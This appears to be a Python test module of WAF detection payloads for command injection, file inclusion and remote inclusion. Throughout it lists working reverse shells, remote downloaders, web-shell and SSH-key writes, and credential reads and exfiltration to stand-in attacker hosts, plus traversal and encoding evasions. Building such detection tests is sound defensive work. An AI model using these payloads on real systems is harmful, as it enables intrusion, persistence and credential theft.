"""Blind set "hundredfortyfifth": polyglot and multi-context payloads for the OS command injection (rce), local file
inclusion / path traversal (lfi) and remote file inclusion (rfi) titles, with benign requests that carry the same
words innocently.

The angle: one value that breaks out of several contexts at once, or that works whichever of several back ends
receives it. Shell payloads that close a bare argument, a '...' and a "..." argument in the same string (and often
an HTML attribute, a JS string or a SQL string on the way), commands that run under sh, cmd.exe and PowerShell
alike, paths that traverse on Unix and Windows alike (mixed / and \\, every percent, overlong and %u encoding),
file references that survive an appended extension, and URLs that load remote code whichever include parameter
or stream wrapper reads them. Many are second-order values: a display name, bio, avatar path, theme or website
stored in a profile that fires later, when an admin page, a nightly report, a log viewer or a CSV/PDF export
passes it to a shell, an include() or a template loader. Each payload names its real target in the comment above
its list (shell, cmd.exe, PowerShell, PHP, Java servlet container, IIS, Node.js, nginx/Apache).

Families and sub-families (one per detection title, as remembered from CRS 3.3.4 / 4.x):
  rce: unix-command-injection, unix-shell-expression-evasion, windows-cmd-injection, powershell,
    unix-command-names-with-paths, reverse-shells, shellshock, downloaders, file-write-via-shell,
    restricted-file-names-in-commands
  lfi: path-traversal, os-file-access, absolute-paths, null-byte-truncation, php-wrapper-lfi,
    log-poisoning-targets, restricted-file-extensions
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    protocols

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users under profile-like field names such as display_name, bio, website, avatar or
template, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body, a multipart field or an
upload's filename, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body that is not
key=value, or in User-Agent, Referer, a custom header or a cookie. Include-parameter payloads are themselves
`name=url` pairs and go unquoted (query string, form body, cookie, raw body). Values with control characters
(newlines, NUL) only go where they can travel (query, form, JSON, raw body).

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Cycles
from .records import print_records

NAME = "hundredfortyfifth"

# ----------------------------------------------------------------------------------------------------------------


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _ps_enc(script: str) -> str:
    """PowerShell's -EncodedCommand: base64 of the UTF-16LE script."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


ATK = "203.0.113.9"   # the tester's listener / payload host
WEBSHELL = "<?php system($_GET['c']);?>"
WEBSHELL_B64 = _b64(WEBSHELL)
PHPINFO_B64 = _b64("<?php phpinfo();?>")
SSH_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOq8XsQ2Lr0vWk7bJ4tPz1uYcHn3mDe5aFg6hKi9jRs2 kit@attacker"
FILTER_CHAIN = ("php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
                "convert.iconv.SE2.UTF-16|convert.iconv.CSIBM921.NAPLPS|convert.base64-decode|"
                "convert.base64-encode|convert.iconv.UTF8.UTF7|convert.base64-decode/resource=php://temp")

# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is a payload string, or (payload, real placement, rs placement) when the payload only works
# in one kind of place.
Entry = str | tuple[str, str, str]

# --- rce -------------------------------------------------------------------------------------------------------
# /bin/sh -c behind a thumbnailer, ping or git helper, the value interpolated bare, inside '...' or inside "...":
# each string closes all three (or two plus an HTML attribute / JS string / SQL string on the way); second-order
# ones are display names the nightly export passes to `sh -c "echo \"$name\" >> report.csv"`
UNIX_SEP: list[Entry] = [
    "x;id;#' ;id;#\" ;id;#",
    "|id #'|id #\"|id #",
    "a||id||'||id||'\"||id||\"",
    "'||id||'",
    "'-$(id)-'",
    "$(id)'$(id)'\"$(id)\"",
    "`id`'`id`'\"`id`\"",
    "'\nid\n\"\nid\n",
    "\"><svg onload=alert(1)>;id;#",
    "127.0.0.1';id;'\";id;\"",
    "Robert\";id;echo \"",
    "x&&id&&'&&id&&'\"&&id&&\"",
    "{{7*7}};id;${7*7}",
    "main\r\nid\r\n",
    "--help;id #",
    "1;sleep 7;#';sleep 7;#\";sleep 7;#",
    "x\nid #'\nid #\"\nid #",
]
# bash / dash: the same breakouts with quotes, ${IFS}, globbing, brace expansion, ANSI-C quoting and variables in
# place of plain words and spaces (what a filter on "cat /etc/passwd" or on spaces misses)
UNIX_EVASION: list[Entry] = [
    "';c''at${IFS}/e''tc/pa''sswd;#",
    "\";{cat,/etc/passwd};#",
    "';$(printf${IFS}'\\151\\144');'",
    r"';$'\x69\x64';'",
    "\";/???/??t${IFS}/???/p??s??;#",
    "';a=i;b=d;$a$b;'",
    r'";w\ho\am\i;#',
    "';${PATH:0:1}usr${PATH:0:1}bin${PATH:0:1}id;'",
    "\";$(tr${IFS}a-z${IFS}n-za-m<<<vq);#",
    "';echo${IFS}aWQ=|base64${IFS}-d|sh;'",
    "\";$(rev<<<imaohw);#",
    r"';X=$'\x2fetc\x2fpasswd';cat$IFS$X;'",
    "\";{ls,-la,/var/www};#",
    "';who$()ami;'",
    "\";w'h'o'am'i;#",
    "';cat</etc/passwd;'",
    "1;sleep${IFS}9;#${IFS}';sleep${IFS}9;#${IFS}\";sleep${IFS}9;#${IFS}",
    "\";/b[i]n/i[d];#",
]
# cmd.exe behind system() / Process.Start("cmd /c ...") on a Windows host; several also run under sh
WINDOWS_CMD: list[Entry] = [
    "\" & whoami & \"",
    "&ver&'&ver&'\"&ver&\"",
    r"| type %SYSTEMROOT%\win.ini",
    r"& %COMSPEC% /c dir C:\ &",
    "&w^h^o^a^m^i&",
    "&& net user &&",
    "| ipconfig /all",
    "& systeminfo | findstr /B /C:\"OS Name\" &",
    "& ping -n 5 127.0.0.1 & ping -c 5 127.0.0.1 #",
    "\" || whoami || \"",
    r'& cmd.exe /c "whoami > %TEMP%\o.txt" &',
    "&for /f %i in ('whoami') do nslookup %i.dnslog.attacker.example&",
    "| wmic process call create \"calc.exe\"",
    "&c^md /c wh^oami&",
    r'&& reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /v ProductName',
    r"| dir \\203.0.113.9\x",
    "\"&set&\"",
    "&echo %USERNAME% %COMPUTERNAME%&",
]
# Windows PowerShell 5.1 / pwsh 7 receiving the value in a script string or on its command line; the quote
# breakouts also fit a JS string or a sh argument
POWERSHELL: list[Entry] = [
    "';Get-ChildItem env:;'",
    "\"; Invoke-Expression 'whoami'; \"",
    r"$(Get-Content C:\Windows\win.ini)",
    "| powershell -nop -enc " + _ps_enc("whoami"),
    "& powershell -w hidden -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://" + ATK
    + "/a.ps1')\"",
    f";iwr http://{ATK}/p.ps1 -UseBasicParsing|iex",
    "';Start-Process calc.exe;'",
    "\"+$(iex 'whoami')+\"",
    "'; [System.Diagnostics.Process]::Start('cmd','/c whoami'); '",
    "; pwsh -c 'Get-Process | Out-File /tmp/p.txt'",
    ";Get-WmiObject Win32_OperatingSystem | Select-Object Caption;",
    "';&('i'+'ex') ('who'+'ami');'",
    "\";& $env:ComSpec /c whoami;\"",
    f";Invoke-WebRequest -Uri http://{ATK}/c -Method POST -Body (Get-Content $env:USERPROFILE\\.aws\\credentials)",
    "'; Set-MpPreference -DisableRealtimeMonitoring $true; '",
    ";[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + _ps_enc("whoami") + "'))|iex;",
    f"| powershell.exe -ExecutionPolicy Bypass -File \\\\{ATK}\\s\\r.ps1",
]
# /bin/sh: commands called by absolute path (PATH-independent, what a tester uses in a minimal container),
# wrapped in the same quote-closing shapes
UNIX_PATHS: list[Entry] = [
    "';/bin/cat /etc/passwd;'",
    "\"|/usr/bin/id|\"",
    "$(/usr/bin/whoami)'$(/usr/bin/whoami)'",
    "`/bin/uname -a`",
    ";/usr/bin/env id #",
    "';/bin/sh -c id;'",
    "\"&&/usr/bin/python3 -c 'import os;os.system(\"id\")'&&\"",
    ";/usr/bin/perl -e 'print `id`' #",
    "||/sbin/ifconfig -a||",
    "';/usr/sbin/ip addr;'",
    ";/usr/bin/nslookup $(/usr/bin/whoami).dnslog.attacker.example",
    f"\";/bin/ping -c 4 {ATK};\"",
    ";/usr/bin/find / -perm -4000 -type f 2>/dev/null #",
    "|/bin/busybox id",
    "';/usr/bin/getent passwd;'",
    "\";/bin/ls -la /var/www;#",
    "';/usr/bin/sudo -l;'",
]
# sh / bash on the server calling back to the tester's listener (bash /dev/tcp, nc, python, perl, socat, php,
# ruby), each behind a quote-closing prefix so it fires from a bare, quoted or stored value
REVERSE_SHELLS: list[Entry] = [
    f"';bash -i >& /dev/tcp/{ATK}/4444 0>&1;'",
    f"\";bash -c 'exec bash -i &>/dev/tcp/{ATK}/4444 <&1';\"",
    f"|nc -e /bin/sh {ATK} 4444",
    f"';rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ATK} 4444 >/tmp/f;'",
    "$(python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"" + ATK + "\",4444));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")')",
    ";perl -e 'use Socket;$i=\"" + ATK + "\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};' #",
    f"\";socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{ATK}:4444;\"",
    f"';socat tcp-connect:{ATK}:4444 exec:/bin/sh;'",
    f"|ncat {ATK} 4444 -e /bin/bash|",
    f";0<&196;exec 196<>/dev/tcp/{ATK}/4444; sh <&196 >&196 2>&196",
    ";php -r '$s=fsockopen(\"" + ATK + "\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");' #",
    ";ruby -rsocket -e'f=TCPSocket.open(\"" + ATK + "\",4444).to_i;"
    "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)' #",
    f"`sh -i >& /dev/udp/{ATK}/4444 0>&1`",
    f"';telnet {ATK} 4444 | /bin/sh | telnet {ATK} 4445;'",
    f"\";nc {ATK} 4444 -c bash;\"",
    f"|busybox nc {ATK} 4444 -e sh|",
    f"& powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('{ATK}',4444);$s=$c.GetStream();"
    "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding)"
    ".GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$r=[Text.Encoding]::ASCII.GetBytes($o);"
    "$s.Write($r,0,$r.Length)}\"",
]
# bash < 4.3 importing a function definition from an environment variable: a CGI script (HTTP_* headers), or a
# cron/report job that exports a stored profile field before calling bash (CVE-2014-6271 and its follow-ups)
SHELLSHOCK: list[Entry] = [
    "() { :; }; /bin/bash -c 'id'",
    "() { :;}; echo; /usr/bin/id",
    "() { :; }; echo Content-Type: text/plain; echo; /bin/cat /etc/passwd",
    "() { _; } >_[$($())] { id; }",
    f"() {{ :; }}; /bin/bash -i >& /dev/tcp/{ATK}/4444 0>&1",
    f"() {{ :; }}; /usr/bin/curl -s http://{ATK}/s | /bin/sh",
    "() { (a)=>\\",
    "() { x() { _; }; x() { _; } <<a; }",
    "() { :; }; /bin/sleep 9",
    f"() {{ :; }}; /bin/ping -c 3 {ATK}",
    "() { ignored; }; /bin/id",
    f"() {{ test;}};/usr/bin/wget -qO- http://{ATK}/x|/bin/sh",
    "() { :; }; echo ; /bin/bash -c 'cat /etc/shadow'",
    "() { :; }; /usr/bin/nslookup $(/usr/bin/whoami).dnslog.attacker.example",
    "() { :;}; /bin/echo; /bin/uname -a",
    "() { :; }; /bin/bash -c 'echo " + WEBSHELL_B64 + " | base64 -d > /var/www/html/s.php'",
]
# sh / cmd.exe fetching a stage two from the tester's host (curl | sh, wget | bash, busybox, tftp, python,
# certutil, bitsadmin, mshta), behind quote-closing prefixes
DOWNLOADERS: list[Entry] = [
    f"';curl -s http://{ATK}/x.sh|sh;'",
    f"\"|wget -qO- http://{ATK}/a.sh|bash|\"",
    "$(curl -fsSL http://attacker.example/i|sh)",
    f"`wget http://{ATK}/b -O /tmp/b;chmod +x /tmp/b;/tmp/b`",
    ";curl -o /tmp/.k http://attacker.example/k && chmod 755 /tmp/.k && /tmp/.k #",
    "';curl http://attacker.example/$(whoami);'",
    f"\";wget --post-file=/etc/passwd http://{ATK}/;\"",
    f"&certutil -urlcache -split -f http://{ATK}/p.exe %TEMP%\\p.exe&%TEMP%\\p.exe&",
    f"&bitsadmin /transfer j /download /priority high http://{ATK}/p.exe C:\\Users\\Public\\p.exe&",
    f"|busybox wget -O- http://{ATK}/m|sh",
    f"';tftp -g -r x {ATK};sh x;'",
    f";python3 -c \"import urllib.request as u;exec(u.urlopen('http://{ATK}/p.py').read())\" #",
    "\";curl -d @/etc/passwd http://attacker.example/c;\"",
    f";fetch -o - http://{ATK}/f.sh | sh #",
    f"|lwp-download http://{ATK}/x /tmp/x|",
    f"& mshta http://{ATK}/a.hta &",
    f"';curl http://{ATK}/x.sh -o-|bash -s;'",
]
# sh / cmd.exe writing a web shell, an SSH key, a cron line or a sudoers line to disk (echo >, tee, printf, cp)
FILE_WRITE: list[Entry] = [
    "';echo '<?php system($_REQUEST[\"c\"]);?>' > /var/www/html/c.php;'",
    f"\";echo {WEBSHELL_B64}|base64 -d>/var/www/html/i.php;\"",
    ";printf '<%%=Runtime.getRuntime().exec(request.getParameter(\"c\"))%%>'"
    "|tee /var/lib/tomcat9/webapps/ROOT/c.jsp #",
    f";echo '{SSH_KEY}' >> ~/.ssh/authorized_keys #",
    f";echo '* * * * * root bash -c \"bash -i >& /dev/tcp/{ATK}/4444 0>&1\"' >> /etc/crontab #",
    "';cp /etc/passwd /var/www/html/p.txt;'",
    r'&echo ^<%eval request("c")%^> > C:\inetpub\wwwroot\c.asp&',
    "\";id > /var/www/html/o.txt;\"",
    ";echo 'www-data ALL=(ALL) NOPASSWD:ALL'|tee -a /etc/sudoers #",
    ";echo 'alias sudo=\"/tmp/.x;sudo\"' >> ~/.bashrc #",
    "';echo hacked > /var/www/html/index.html;'",
    f"\";wget -O /var/www/html/sh.php http://{ATK}/sh.txt;\"",
    "$(touch /tmp/pwned)",
    "';sed -i \"s/^root:[^:]*:/root::/\" /etc/shadow;'",
    ";install -m 4755 /bin/sh /tmp/.rs #",
    "`echo " + WEBSHELL_B64 + " | base64 -d | tee /var/www/html/up.php`",
    "& echo Set o=CreateObject(\"WScript.Shell\"):o.Run \"calc\" > %TEMP%\\r.vbs &",
]
# sh / cmd.exe reading the files a tester asks for first (passwd, shadow, group, history, environ, keys,
# credentials, boot.ini, hosts), with the readers a blocklist forgets
RESTRICTED_NAMES: list[Entry] = [
    "';cat /etc/passwd;'",
    "\"|head -n 5 /etc/shadow|\"",
    "$(tail /etc/group)",
    "`more /etc/hosts`",
    "';less ~/.bash_history;'",
    "\";nl /proc/self/environ;\"",
    ";strings /proc/self/cmdline #",
    "';cat ~/.aws/credentials;'",
    ";base64 /root/.ssh/id_rsa #",
    "\";xxd /etc/master.passwd;\"",
    r"&type C:\boot.ini&",
    r'"&type C:\Windows\System32\drivers\etc\hosts&"',
    "';sort /etc/passwd;'",
    "|cat /var/www/.env|",
    "\";grep -r password /etc/mysql/my.cnf;\"",
    ";od -An -c /etc/sudoers #",
    "';tac /etc/security/opasswd;'",
]

# --- lfi -------------------------------------------------------------------------------------------------------
# PHP include()/file_get_contents, Node path.join + res.sendFile, a Java servlet's getResource and IIS alike:
# traversal sequences that work on Unix and Windows at once (mixed separators) or survive one more decode,
# overlong UTF-8, IIS %u, NFKC-normalised full-width dots and slashes, and strip-once filters; second-order ones
# are avatar / theme paths stored in a profile and opened later by the PDF export
PATH_TRAVERSAL: list[Entry] = [
    "../../../../../../etc/passwd",
    r"..\..\..\..\..\..\windows\win.ini",
    r"..\/..\/..\/..\/..\/etc/passwd",
    r"../..\../..\../..\etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "..%5c..%5c..%5c..%5cwindows%5cwin.ini",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%252f..%252f..%252f..%252fetc%252fpasswd",
    "%252e%252e%255c%252e%252e%255cwindows%255cwin.ini",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%u2215..%u2215..%u2215etc%u2215passwd",
    "%uff0e%uff0e%u2216%uff0e%uff0e%u2216windows%u2216win.ini",
    "....//....//....//....//etc/passwd",
    r"....\\....\\....\\windows\win.ini",
    "..;/..;/..;/WEB-INF/web.xml",
    "..././..././..././etc/passwd",
    "%2e%2e%2f%2e%2e%5c%2e%2e%2f%2e%2e%5cwindows/win.ini",
    "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd",
    "\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/passwd",
    "avatars/../../../../../../etc/passwd",
    r"/..\../..\../..\../etc/passwd",
    "..%255c..%255c..%255c..%255cboot.ini",
]
# PHP/Node/Java file readers and IIS: the files a tester reads first, each given in a form both a Unix and a
# Windows host resolve, or as the stored path a report job opens later
OS_FILE_ACCESS: list[Entry] = [
    "../../../../../../../../etc/shadow",
    "../../../../proc/self/cmdline",
    "/proc/self/maps",
    "/proc/self/status",
    "/proc/version",
    "/proc/self/cwd/app.py",
    "/proc/1/environ",
    r"..\..\..\..\..\Windows\System32\drivers\etc\hosts",
    r"c:\boot.ini",
    "../../web.config",
    r"..\..\web.config",
    "../.htaccess",
    "../../.git/config",
    ".git/HEAD",
    "../../../.env",
    r"..\..\..\.env",
    "../../../../home/deploy/.ssh/id_rsa",
    "/root/.ssh/id_rsa",
    "WEB-INF/web.xml",
    "../../../../../etc/group",
    ".git/logs/HEAD",
    "../../.aws/credentials",
    "/proc/self/fd/3",
]
# Absolute references a file parameter accepts on either OS (leading slash, drive letter, UNC-to-self, file://,
# doubled and dotted slashes, /proc/self/root)
ABSOLUTE_PATHS: list[Entry] = [
    "/etc/passwd",
    "//etc//passwd",
    "/./etc/./passwd",
    "file:///etc/passwd",
    "file://localhost/etc/shadow",
    r"C:\Windows\win.ini",
    "C:/Windows/win.ini",
    r"\\?\C:\Windows\win.ini",
    r"\\localhost\c$\windows\win.ini",
    "/var/www/html/wp-config.php",
    "/usr/local/etc/php/php.ini",
    "/etc/nginx/nginx.conf",
    "/etc/apache2/apache2.conf",
    "/opt/tomcat/conf/tomcat-users.xml",
    r"C:\inetpub\wwwroot\web.config",
    r"C:\xampp\php\php.ini",
    "/etc/mysql/my.cnf",
    "/proc/self/root/etc/passwd",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/etc/ssh/sshd_config",
    "file:///C:/Windows/System32/drivers/etc/hosts",
    r"%SYSTEMROOT%\win.ini",
    "/home/ubuntu/.bash_history",
]
# PHP < 5.3.4 and other C-string file APIs (NUL ends the name, the appended ".php" / ".jpg" is dropped), PHP's
# 4096-byte path truncation, ? and # cutting an appended suffix off a URL-style loader, Windows dropping trailing
# dots and ::$DATA
NULL_TRUNCATION: list[Entry] = [
    "../../../../etc/passwd%00",
    "../../../../etc/passwd%00.jpg",
    "../../../../etc/passwd\x00.png",
    r"..\..\..\windows\win.ini%00.txt",
    "/etc/passwd%00.php",
    "../../../etc/passwd%2500.html",
    "../../../../etc/passwd" + "/." * 2048,
    "../../../../etc/passwd/" + "./" * 2100 + ".php",
    r"..\..\..\windows\win.ini" + "." * 260,
    "../../../etc/passwd?.php",
    "../../../etc/passwd#.tpl",
    "../../../../etc/passwd%00%00",
    "../../../../../boot.ini%00.html",
    "/etc/passwd%00/",
    "../../../../etc/passwd%u0000.css",
    r"C:\Windows\win.ini::$DATA",
    "../web.config::$DATA",
    "../../../../etc/passwd%C0%80.jpg",
    "../../../../../etc/hosts%00.lang",
    "\x00../../../../etc/passwd",
    "../../../.env\x00.png",
    "../../../../etc/shadow%00en",
    "%00/../../../../etc/passwd",
]
# PHP stream wrappers in include()/require/file_get_contents/readfile: php://filter source disclosure (any
# case, chained filters, filter-chain generators), phar://, zip://, compress.*://, glob://, php://input
PHP_WRAPPERS: list[Entry] = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=convert.base64-encode/resource=../config/database.php",
    "php://filter/string.rot13/resource=/etc/passwd",
    "php://filter/convert.iconv.UTF-8.UTF-16LE/resource=wp-config.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/.env",
    "PhP://FilTer/convert.base64-encode/resource=config.php",
    "php://filter/resource=../../../../etc/passwd",
    "php://filter/read=string.toupper|string.rot13/resource=admin.php",
    "php://filter/convert.base64-decode/resource=data:," + PHPINFO_B64,
    "php://input",
    "phar://uploads/avatars/7.jpg/shell.php",
    "phar:///var/www/uploads/u.gif/x",
    "zip://uploads/doc.zip#shell.php",
    "zip:///tmp/php3a.zip%23s.php",
    "compress.zlib:///etc/passwd",
    "compress.bzip2://../../../../etc/passwd",
    "glob:///var/www/html/*.php",
    FILTER_CHAIN,
    "php://filter/read=convert.quoted-printable-encode/resource=../config.inc.php",
    "php://filter/convert.base64-encode|convert.base64-encode/resource=/etc/passwd",
    "php://filter/dechunk|convert.iconv.L1.UCS-4LE/resource=/etc/shadow",
    "rar://uploads/a.rar#s.php",
    "php://fd/0",
]
# Files a tester first poisons (User-Agent, SSH user name, mail, session value) and then includes through the
# same PHP include(): web server, auth, mail and FTP logs, /proc/self/fd, PHP session files, on Linux and
# Windows/XAMPP layouts
LOG_TARGETS: list[Entry] = [
    "../../../../var/log/apache2/access.log",
    "/var/log/nginx/access.log",
    "../../../../var/log/nginx/error.log",
    "/var/log/httpd/access_log",
    "../../../../../var/log/auth.log",
    "/var/log/mail.log",
    "/var/log/vsftpd.log",
    "/proc/self/fd/2",
    "../../../../var/lib/php/sessions/sess_9b1d2c3e4f5a6b7c8d9e0f1a2b",
    "/tmp/sess_5f4dcc3b5aa765d61d8327deb8",
    r"C:\xampp\apache\logs\access.log",
    r"..\..\..\..\xampp\apache\logs\error.log",
    r"C:\inetpub\logs\LogFiles\W3SVC1\u_ex240501.log",
    "/usr/local/apache2/logs/access_log",
    "/var/log/apache/error.log",
    "/opt/lampp/logs/access_log",
    "/var/log/secure",
    "/proc/self/environ",
    "/var/mail/www-data",
    "../../../../../../var/log/syslog",
    "/usr/local/var/log/nginx/access.log",
    "../../../../../../var/log/apache2/access.log&c=id",
    "/var/log/tomcat9/catalina.out",
]
# Web servers and include() handing out backup, editor, dump and config files (.bak, .old, .config, .ini, .sql,
# .swp, ~, .orig, .inc, .cfg, .key, .mdb, .htpasswd), by name or behind a traversal
RESTRICTED_EXT: list[Entry] = [
    "config.php.bak",
    "../config/database.yml.bak",
    r"..\web.config.old",
    "backup.sql",
    "../../db/dump.sql",
    "../settings.ini",
    "../../php.ini",
    r"..\..\app.config",
    "wp-config.php.old",
    "index.php~",
    "../.env.bak",
    "/var/www/html/.wp-config.php.swp",
    "../../includes/db.inc",
    "../conf/server.cfg",
    "../../private/server.key",
    "../data/users.mdb",
    "../../.htpasswd",
    "../logs/app.log",
    "site.conf.orig",
    "../config.php.save",
    "web.config.bak",
    "../../../backup/db_2024.sql.gz",
    r"..\..\App_Data\ASPNETDB.MDF",
]

# --- rfi -------------------------------------------------------------------------------------------------------
# PHP include() with allow_url_include, a Node/EJS layout or a JSP <c:import> fetching the page to run: remote
# code on a bare IP (dotted, decimal, hex, octal, IPv6), stored as a profile website / avatar that the admin
# preview or the export includes later; the ?, # and %00 suffixes cut off an appended ".php"
URL_IP: list[Entry] = [
    f"http://{ATK}/shell.txt",
    f"http://{ATK}:8080/c99.txt",
    "https://198.51.100.23/inc/config.php.txt",
    "ftp://192.0.2.44/pub/r57.txt",
    f"http://{ATK}/x.txt%00",
    "http://198.51.100.23/s.jpg#",
    "http://[2001:db8::9]/shell.txt",
    "http://3405803785/s.txt",
    "http://0xcb.0x00.0x71.0x09/s.txt",
    "http://0313.0.0161.011/s.txt",
    f"http://{ATK}/cmd.txt?cmd=id",
    "https://192.0.2.44:8443/wso.txt",
    f"http://user:pass@{ATK}/b.txt",
    "HTTP://203.0.113.9/X.TXT",
    f"http://{ATK}/templates/evil.tpl",
    "http://192.0.2.44/layout.ejs",
    f"http://{ATK}/x.xsl",
    "http://198.51.100.23/lang/en.php",
    f"https://{ATK}/.well-known/s.txt",
    "http://192.0.2.44/plugin.js",
    f"http://{ATK}/b374k.txt#.php",
    "http://198.51.100.23:8000/inc.txt%00.php",
    "https://[2001:db8:0:1::23]:8443/wso.php",
    f"http://{ATK}/s.txt?.php",
    "http://0xcb007109/s.txt",
    "https://192.0.2.44/shell.jsp",
    f"http://{ATK}/header.html?lang=",
    "http://198.51.100.23/theme/functions.txt",
    "http://[::ffff:203.0.113.9]/s.txt",
    f"http://{ATK}/r.txt%23",
    "http://192.0.2.44/phpinfo.txt#",
    f"http://{ATK}/../s.txt",
]
# PHP include("$page.php") and similar suffixing loaders: a remote URL ending in "?" turns the appended
# extension into a query string, whatever host it names (domain, IP, tunnel, paste or raw-file service)
URL_TRAILING_Q: list[Entry] = [
    "http://attacker.example/shell.txt?",
    "https://evil.example.net/c99.txt?",
    "http://attacker.example/inc.txt??",
    "ftp://attacker.example/pub/s.txt?",
    f"http://{ATK}/x.txt?",
    "https://pastebin.com/raw/Xy7kQ2aB?",
    "https://raw.githubusercontent.com/attacker-kit/tools/main/wso.txt?",
    "http://attacker.example/s.txt?&lang=en&?",
    "//attacker.example/s.txt?",
    "http://attacker.example:8000/s.txt?",
    "HTTPS://ATTACKER.EXAMPLE/S.TXT?",
    "http://attacker.example/tpl/header.tpl?",
    "http://attacker.example/lang/de.txt?",
    "http://attacker.example/shell.jpg?",
    "http://evil.example.net/~kit/b374k.txt?",
    "https://gist.githubusercontent.com/attacker-kit/5c1e/raw/r57.txt?",
    "http://k7x2q9.oastify.com/inc.txt?",
    "http://c2abc.interact.sh/t.txt?",
    "https://a1b2-203-0-113-9.ngrok-free.app/s.txt?",
    "http://198.51.100.23/cmd.txt?cmd=id&?",
    "https://transfer.sh/get/Zx1/s.txt?",
    "http://attacker.example/x.txt?/",
    "https://attacker.example/kit/w.txt???",
    "http://evil.example.net/p.txt?c=uname%20-a&?",
    "https://cdn.attacker.example/js/plugin.js?",
    "http://attacker.example/inc/config.txt?",
    "http://ATTACKER.example/Shell.TXT?",
    "https://attacker.example./s.txt?",
    "http://192.0.2.44:8080/wso.txt?",
    "https://evil.example.net/templates/layout.tpl?",
    "http://attacker.example/s.gif?",
    "https://bit.attacker.example/r?",
]
# PHP index.php?page= / file= / template= / include= / path= ... loaders: the parameter and the URL together,
# several include names in one string so whichever the back end reads loads the remote page
INCLUDE_PARAM: list[Entry] = [
    "page=http://attacker.example/shell.txt",
    "file=https://evil.example.net/c99.txt",
    "template=http://attacker.example/tpl/evil.tpl",
    "include=http://203.0.113.9/inc.txt",
    "path=http://attacker.example/s.txt?",
    "page=http://attacker.example/s.txt?&file=http://attacker.example/s.txt?&template=http://attacker.example/s.txt?",
    "inc=ftp://attacker.example/pub/r57.txt",
    "doc=http://198.51.100.23/wso.txt",
    "mod=http://attacker.example/module.txt",
    "lang=http://attacker.example/lang/en.txt?",
    "view=https://attacker.example/views/admin.txt",
    "layout=http://192.0.2.44/layout.ejs",
    "theme=http://attacker.example/themes/dark/functions.txt",
    "dir=http://attacker.example/&file=shell.txt",
    "document=https://pastebin.com/raw/9qWcB3tE",
    "folder=http://attacker.example/kit/",
    "root=http://attacker.example/",
    "pg=http://203.0.113.9/s.txt",
    "style=http://attacker.example/s.css.txt?",
    "conf=http://attacker.example/conf.txt",
    "content=https://raw.githubusercontent.com/attacker-kit/tools/main/b374k.txt",
    "load=http://attacker.example/l.txt%00",
    "show=http://198.51.100.23/s.txt#",
    "site=http://attacker.example/site.txt",
    "type=http://attacker.example/t.txt",
    "cat=http://attacker.example/c.txt",
    "page[]=http://attacker.example/arr.txt",
    "include_path=http://attacker.example/",
    "mosConfig_absolute_path=http://attacker.example/j.txt?",
    "_SERVER[DOCUMENT_ROOT]=http://attacker.example/root.txt?",
    "GLOBALS[path]=http://attacker.example/g.txt?",
    "file=http://attacker.example/s.txt&page=http://attacker.example/s.txt&path=http://attacker.example/s.txt",
]
# PHP include(), a JSP <c:import url=...>, an XSLT document() or a Node require of a URL: remote code on a
# domain that is not ours, written the ways a host check misses (protocol-relative, backslashes, userinfo,
# subdomain and trailing-dot tricks, IDN, public paste / CDN / tunnel / OAST hosts)
OFF_DOMAIN: list[Entry] = [
    "https://attacker.example/shell.php",
    "http://evil.example.net/inc/config.txt",
    "//attacker.example/s.txt",
    r"\/\/attacker.example/s.txt",
    "https://pastebin.com/raw/9qWcB3tE",
    "https://gist.githubusercontent.com/x/abc/raw/s.php",
    "https://transfer.sh/get/Zx1/s.txt",
    "https://cdn.jsdelivr.net/gh/attacker-kit/t@main/s.txt",
    "http://xn--80ak6aa92e.com/s.txt",
    "https://attacker.example./s.txt",
    "http://ATTACKER.example/S.TXT",
    "https://attacker.example/s.txt#.php",
